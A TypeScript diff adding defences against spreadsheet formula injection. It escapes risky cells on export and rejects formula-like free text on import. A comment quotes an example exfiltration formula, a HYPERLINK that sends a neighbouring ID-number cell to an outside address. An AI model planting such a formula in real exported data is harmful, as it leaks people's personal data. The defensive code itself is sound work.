@@ -20,6 +20,37 @@ export function cellText(cell: RawCell): string {
 }
 
 /**
+ * Spreadsheet formulas hidden in data (CSV or formula injection, OWASP). Excel, WPS and LibreOffice
+ * run a CSV cell that starts with = + - or @ as a formula, and some skip a leading tab or CR first:
+ * `=HYPERLINK("http://…"&A1,"点我")` beside the ID-number column sends that cell's neighbour away
+ * when clicked. On the way out, such text gets a leading ' (OWASP's rule), which spreadsheets show
+ * as text; numbers are never touched, so a negative number stays a number.
+ */
+const FORMULA_START = /^[=+\-@\t\r]/;
+
+export function neutralizeFormula(text: string): string {
+  return FORMULA_START.test(text) ? `'${text}` : text;
+}
+
+/**
+ * On the way in, free text (names, addresses, places) may not start with = + or @ nor hold a
+ * control character: no person, address or employer is written that way, so it is a formula or
+ * a corrupted cell. A leading - stays allowed ("-" is how offices write "none", "-1层" is a floor).
+ * Leading tabs and line breaks never get here: cellText folds them away. The ' that exports put
+ * before such text is taken off again, so an exported file imports back to the same values.
+ */
+const FREE_TEXT_FORMULA = /^[=+@]/;
+const CONTROL_CHARACTER = /[\u0000-\u001f\u007f]/;
+
+export function cellFreeText(cell: RawCell, field: string): string {
+  const typed = cellText(cell);
+  const text = /^'[=+\-@]/.test(typed) ? typed.slice(1) : typed;
+  if (FREE_TEXT_FORMULA.test(text)) throw new CellError(`${field}不能以“${text[0]}”开头（可能是公式）`);
+  if (CONTROL_CHARACTER.test(text)) throw new CellError(`${field}不能含有控制字符`);
+  return text;
+}
+
+/**
  * ID numbers and codes must be text. Excel keeps 15 significant digits, so an 18-digit number
  * has lost its last digits (and its check character): refuse it rather than guess.
  */
